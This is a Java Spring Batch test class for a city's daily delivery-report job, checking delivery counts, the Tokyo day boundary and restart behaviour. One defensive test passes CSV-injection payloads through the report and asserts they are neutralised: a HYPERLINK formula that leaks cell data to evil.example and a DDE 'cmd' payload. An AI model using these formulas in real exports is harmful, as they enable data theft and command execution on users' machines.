package io.tsutawaru.batch.report;

import java.nio.file.Files;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZoneId;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;

import io.tsutawaru.batch.BatchJobs;
import io.tsutawaru.batch.BatchTestApplication;
import io.tsutawaru.batch.DailyReports;
import io.tsutawaru.batch.JobRun;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.batch.core.repository.JobRepository;
import org.springframework.batch.test.context.SpringBatchTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.simple.JdbcClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * deliveryReportJob over rows written straight into the notifier's and the knowledge
 * base's tables. Each test reports on a day of its own, long ago, so that nothing else
 * falls into it. Days are the city's (Asia/Tokyo); the tests run with the JVM in UTC
 * (root pom), so a report that counted the JVM's day would count the wrong hours.
 */
@SpringBatchTest
@SpringBootTest(classes = BatchTestApplication.class)
abstract class DeliveryReportJobTests {

	private static final ZoneId CITY = ZoneId.of("Asia/Tokyo");

	@Autowired
	BatchJobs jobs;

	@Autowired
	DailyReports reports;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	JobRepository repository;

	LocalDate runDate;

	LocalDate day;

	String tag;

	@BeforeEach
	void newDay() {
		runDate = LocalDate.of(1990, 1, 1).plusDays(ThreadLocalRandom.current().nextInt(10_000));
		day = runDate.minusDays(1);
		tag = UUID.randomUUID().toString().substring(0, 8);
	}

	@Test
	void countsDeliveriesPerNoticeAndChannelFeedbackPerCategoryAndUnansweredQuestions() throws Exception {
		long notice = notice("台風接近", at(day, 9));
		batch(notice, "LINE", 500, 498, 2);
		batch(notice, "LINE", 100, 100, 0);
		batch(notice, "EMAIL", 50, 45, 5);
		notice("前日のお知らせ", at(day.minusDays(1), 23));
		faq("ごみ", true, at(day, 10));
		faq("ごみ", false, at(day, 11));
		faq(null, false, at(day, 12));
		unanswered("ペットの火葬は？", at(day, 8));
		unanswered("ペットの火葬は？", at(day, 20));
		unanswered("今日の質問", at(runDate, 1));

		JobRun run = jobs.runToEnd("deliveryReportJob", Map.of("date", runDate.toString()));

		assertThat(run.status()).isEqualTo(JobRun.RunStatus.COMPLETED);
		assertThat(reports.deliveries(day, day)).containsExactly(
				new DailyReports.DeliveryFigure(day, notice, "台風接近", "EMAIL", 50, 45, 5),
				new DailyReports.DeliveryFigure(day, notice, "台風接近", "LINE", 600, 598, 2));
		assertThat(reports.deliveries(day, day).get(0).reachPercent()).isEqualTo(90.0);
		assertThat(reports.feedback(day, day)).containsExactly(new DailyReports.FeedbackFigure(day, "(none)", 0, 1),
				new DailyReports.FeedbackFigure(day, "ごみ", 1, 1));
		assertThat(reports.unanswered(day))
			.containsExactly(new DailyReports.UnansweredFigure(day, "ペットの火葬は？", "ja", 2));
		String csv = Files.readString(jobs.report(run.id()).orElseThrow().path());
		assertThat(csv).contains("delivery," + day + "," + notice + ",\"台風接近\",LINE,600,598,2,99.7")
			.contains("unanswered," + day + ",\"ペットの火葬は？\",ja,2");
	}

	@Test
	void countsTheCitysDayFromMidnightToMidnightWhateverTheServersTimeZone() {
		long early = notice("未明の配信", day.atTime(0, 30).atZone(CITY).toOffsetDateTime());
		batch(early, "LINE", 14_000, 14_000, 0);
		long late = notice("深夜の配信", day.atTime(23, 30).atZone(CITY).toOffsetDateTime());
		batch(late, "EMAIL", 837, 837, 0);
		long nextDay = notice("翌日の配信", runDate.atTime(0, 30).atZone(CITY).toOffsetDateTime());
		batch(nextDay, "LINE", 5, 5, 0);

		JobRun run = jobs.runToEnd("deliveryReportJob", Map.of("date", runDate.toString()));

		assertThat(run.status()).isEqualTo(JobRun.RunStatus.COMPLETED);
		assertThat(reports.deliveries(day, day)).extracting(DailyReports.DeliveryFigure::noticeId)
			.containsExactly(early, late);
		assertThat(reports.deliveries(day, day).stream().mapToLong(DailyReports.DeliveryFigure::sent).sum())
			.isEqualTo(14_837);
	}

	@Test
	void restartAfterAFailureContinuesWithoutRedoingOrSkippingRows() {
		long[] notices = new long[25];
		for (int i = 0; i < notices.length; i++) {
			notices[i] = notice("お知らせ" + i, at(day, 12));
			batch(notices[i], "LINE", 10, 10, 0);
		}
		String constraint = "no_" + tag;
		jdbc.sql("ALTER TABLE batch_delivery_figures ADD CONSTRAINT " + constraint + " CHECK (notice_id <> "
				+ notices[14] + ")")
			.update();

		JobRun failed = jobs.runToEnd("deliveryReportJob", Map.of("date", runDate.toString()));
		assertThat(failed.status()).isEqualTo(JobRun.RunStatus.FAILED);
		assertThat(reports.deliveries(day, day)).hasSize(10);

		jdbc.sql("ALTER TABLE batch_delivery_figures DROP CONSTRAINT " + constraint).update();
		JobRun resumed = jobs.runToEnd("deliveryReportJob", Map.of("date", runDate.toString()));

		assertThat(resumed.status()).isEqualTo(JobRun.RunStatus.COMPLETED);
		assertThat(reports.deliveries(day, day)).extracting(DailyReports.DeliveryFigure::noticeId)
			.containsExactly(java.util.Arrays.stream(notices).boxed().toArray(Long[]::new));
		assertThat(resumed.counts()).containsEntry("deliveries", 25L);
		assertThat(repository.getJobExecution(resumed.id())
			.getStepExecutions()
			.stream()
			.filter(s -> s.getStepName().equals(DeliveryReportJobConfiguration.DELIVERIES_STEP))
			.findFirst()
			.orElseThrow()
			.getReadCount()).isEqualTo(15);
	}

	/**
	 * Issue 15, item 11: residents' questions (and staff's titles) that a spreadsheet
	 * would read as a formula are written so that it reads them as text (OWASP CSV
	 * injection): a single quote before them, inside the quotes.
	 */
	@Test
	void aFormulaInResidentTextDoesNotSurviveIntoTheCsv() throws Exception {
		long notice = notice("-2+3 お知らせ", at(day, 9));
		batch(notice, "LINE", 10, 10, 0);
		faq("@SUM(1)", true, at(day, 10));
		unanswered("=HYPERLINK(\"http://evil.example/?\"&A1,\"詳しくはこちら\")", at(day, 8));
		unanswered("+1+cmd|' /C calc'!A0", at(day, 9));
		unanswered("\t=1+1", at(day, 9));
		unanswered("ごみの日は?", at(day, 9));

		JobRun run = jobs.runToEnd("deliveryReportJob", Map.of("date", runDate.toString()));

		String csv = Files.readString(jobs.report(run.id()).orElseThrow().path());
		java.util.List<String> cells = new java.util.ArrayList<>();
		for (String section : csv.substring(1).split("\r\n\r\n")) {
			org.apache.commons.csv.CSVParser.parse(section, org.apache.commons.csv.CSVFormat.DEFAULT)
				.forEach(record -> record.forEach(cells::add));
		}
		assertThat(cells).contains("'-2+3 お知らせ", "'@SUM(1)", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"詳しくはこちら\")",
				"'+1+cmd|' /C calc'!A0", "'\t=1+1", "ごみの日は?");
		assertThat(cells).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
	}

	/**
	 * Issue 15, item 10: the report of a run that does not exist is nothing, not a
	 * failure (the console's 404).
	 */
	@Test
	void aRunThatDoesNotExistHasNoReport() {
		assertThat(jobs.report(987_654_321L)).isEmpty();
		assertThat(jobs.run(987_654_321L)).isEmpty();
	}

	private long notice(String title, OffsetDateTime sentAt) {
		jdbc.sql(
				"INSERT INTO notices (title, body, severity, alert_status, channels, segment_rule, area_names, area_codes, "
						+ "state, created_by, sent_at, created_at, updated_at) VALUES (?, 'b', 'INFO', 'ACTUAL', 'LINE', 'all', '', '', "
						+ "'SENT', ?, ?, ?, ?)")
			.params(title, tag, sentAt, sentAt, sentAt)
			.update();
		return jdbc.sql("SELECT MAX(id) FROM notices WHERE created_by = ?").param(tag).query(Long.class).single();
	}

	private void batch(long notice, String channel, int planned, int sent, int failed) {
		jdbc.sql(
				"INSERT INTO delivery_batches (notice_id, revision, channel, emergency, recipients, planned, sent, failed, "
						+ "state, retry_key, planned_at) VALUES (?, 1, ?, FALSE, '', ?, ?, ?, 'SENT', ?, ?)")
			.params(notice, channel, planned, sent, failed, UUID.randomUUID().toString(), at(day, 9))
			.update();
	}

	private void faq(String category, boolean solved, OffsetDateTime at) {
		String id = tag + "-" + UUID.randomUUID().toString().substring(0, 6);
		jdbc.sql("INSERT INTO kb_faq_entries (id, question, answer, category, language, published, updated_at) "
				+ "VALUES (?, 'q', 'a', ?, 'ja', TRUE, ?)")
			.params(id, category == null ? null : category, at)
			.update();
		jdbc.sql("INSERT INTO kb_answer_feedback (faq_id, solved, given_at) VALUES (?, ?, ?)")
			.params(id, solved, at)
			.update();
	}

	private void unanswered(String question, OffsetDateTime at) {
		jdbc.sql(
				"INSERT INTO kb_unanswered_questions (question, normalized, language, asked_at) VALUES (?, ?, 'ja', ?)")
			.params(question, question, at)
			.update();
	}

	private static OffsetDateTime at(LocalDate date, int hour) {
		return date.atTime(hour, 0).atZone(CITY).toOffsetDateTime();
	}

}
